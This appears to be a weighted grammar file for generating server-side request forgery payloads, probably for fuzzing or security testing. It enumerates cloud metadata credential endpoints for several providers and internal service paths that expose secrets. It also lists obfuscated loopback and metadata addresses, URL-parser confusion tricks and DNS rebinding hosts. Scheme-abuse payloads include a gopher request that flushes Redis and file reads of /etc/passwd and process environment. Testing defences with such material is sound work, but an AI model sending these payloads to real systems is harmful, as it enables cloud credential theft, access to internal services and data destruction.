# Server-side request forgery: cloud metadata services, internal addresses
# and control planes, address obfuscation, scheme abuse, parser confusion.

technique = [4] "cloud_metadata" | [3] "internal_service" | [3] "ip_obfuscation" | [2] "scheme_abuse"
	| [2] "parser_confusion" | [1] "dns_rebinding" | [1] "redirect_chain" ;
place = [7] "param" | [3] "query" | [2] "body" | [1] "header" ;
target = [7] "url" | [1] "host" | [1] "any" ;
encode = [7] "none" | [3] "raw" | [2] "pct" | [1] "double" | [1] "mixed" | [1] "unicode" ;
param = "url" | "uri" | "callback" | "webhook" | "redirect" | "next" | "image" | "image_url"
	| "feed" | "dest" | "target" | "proxy" | "fetch" | "avatar" | "link" | "return_to" ;
header = "X-Forwarded-Host" | "X-Original-URL" | "Referer" | "X-Callback-Url" ;
cookie = "redirect" | "next" ;

http = [4] "http://" | "https://" | "HTTP://" | "http:/" | "http:\\\\" | "//" ;
aws_path = "/latest/meta-data/" ("iam/security-credentials/" @word? | "hostname" | "local-ipv4"
	| "public-keys/" | "identity-credentials/ec2/security-credentials/ec2-instance" | "")
	| "/latest/user-data" | "/latest/dynamic/instance-identity/document" | "/latest/api/token" ;
cloud_metadata = http "169.254.169.254" aws_path
	| http "metadata.google.internal/computeMetadata/v1/" ("instance/service-accounts/default/token" | "project/project-id" | "instance/attributes/?recursive=true")
	| http "169.254.169.254/metadata/instance?api-version=20" @int(17,23) "-0" @int(1,9) "-01"
	| http "100.100.100.200/latest/meta-data/" ("ram/security-credentials/" | "instance-id")
	| http "[fd00:ec2::254]" aws_path | http "169.254.170.2/v2/credentials/" @hex(8,8)
	| http "metadata.azure.com/metadata/identity/oauth2/token?resource=https://management.azure.com/"
	| http "192.0.0.192/latest/" | http "169.254.169.254/openstack/latest/meta_data.json" ;
internal_host = "localhost" | "127.0.0.1" | @ip4 | "kubernetes.default.svc" | "0.0.0.0" | "[::1]"
	| "internal-admin" | "consul.service.consul" | "vault.internal" | "10.0.0." @int(1,254)
	| "payment" | "user-read" | "inventory" | "redis" | "elasticsearch" ;
internal_path = "/" | "/admin" | "/actuator/env" | "/actuator/heapdump" | "/api/v1/namespaces/default/secrets"
	| "/containers/json" | "/v1/kv/?recurse" | "/_cat/indices" | "/server-status" | "/metrics"
	| "/debug/pprof/" | "/v1/secret/data/db" | "/internal/users/export" | "/swagger-ui.html" ;
port = [4] "" | ":" ("80" | "8080" | "8500" | "2375" | "6379" | "9200" | "10250" | "6443" | "5000"
	| "22" | "25" | "3306" | "8200" | "9090" | @int(1,65535)) ;
internal_service = http internal_host port internal_path ;
ip_obfuscation = http ("2852039166" | "0xa9fea9fe" | "0251.0376.0251.0376" | "0xa9.0xfe.0xa9.0xfe"
	| "169.254.43518" | "[::ffff:169.254.169.254]" | "[::ffff:a9fe:a9fe]" | "169.254.169.254.nip.io"
	| "425.510.425.510" | "0x7f000001" | "2130706433" | "127.1" | "0177.0.0.1" | "0" | "127.0.0.1.nip.io"
	| "[0:0:0:0:0:ffff:127.0.0.1]" | "①②⑦.⓪.⓪.①" | "localtest.me" | "spoofed." @word ".example") port internal_path ;
scheme_abuse = "gopher://127.0.0.1:6379/_" ("*1\r\n$8\r\nflushall\r\n" | "SET%20x%20y" | "INFO")
	| "dict://127.0.0.1:" ("6379" | "11211") "/info" | "file:///etc/passwd" | "file:///proc/self/environ"
	| "ftp://" internal_host "/" | "ldap://" internal_host ":389/" | "tftp://" @ip4 "/x"
	| "jar:http://" @word ".example/x.jar!/" | "netdoc:///etc/passwd" | "sftp://" @word ".example:11111/" ;
parser_confusion = http allowed "@" internal_host port internal_path | http internal_host "#@" allowed
	| http allowed "." @word ".example" | http internal_host "\\@" allowed | http allowed "%40" internal_host
	| http internal_host "?." allowed | http allowed ":80\\@" internal_host | http "127.0.0.1:80&@" allowed "# @" allowed ;
allowed = "cdn.example.com" | "images.example.org" | "hooks.example.com" | "partner.example.net" ;
dns_rebinding = http "7f000001." @hex(8,8) ".rbndr.us" port internal_path | http "a9fea9fe.0a000001.rbndr.us/latest/meta-data/"
	| http @word ".burpcollaborator.net" internal_path | http "make-169-254-169-254-rr.1u.ms" aws_path ;
redirect_chain = http @word ".example/redirect?to=" http "169.254.169.254" aws_path
	| http "tinyurl.com/" @alnum(6,8) | http "bit.ly/" @alnum(6,7) | http @word ".ngrok.io/r302" ;
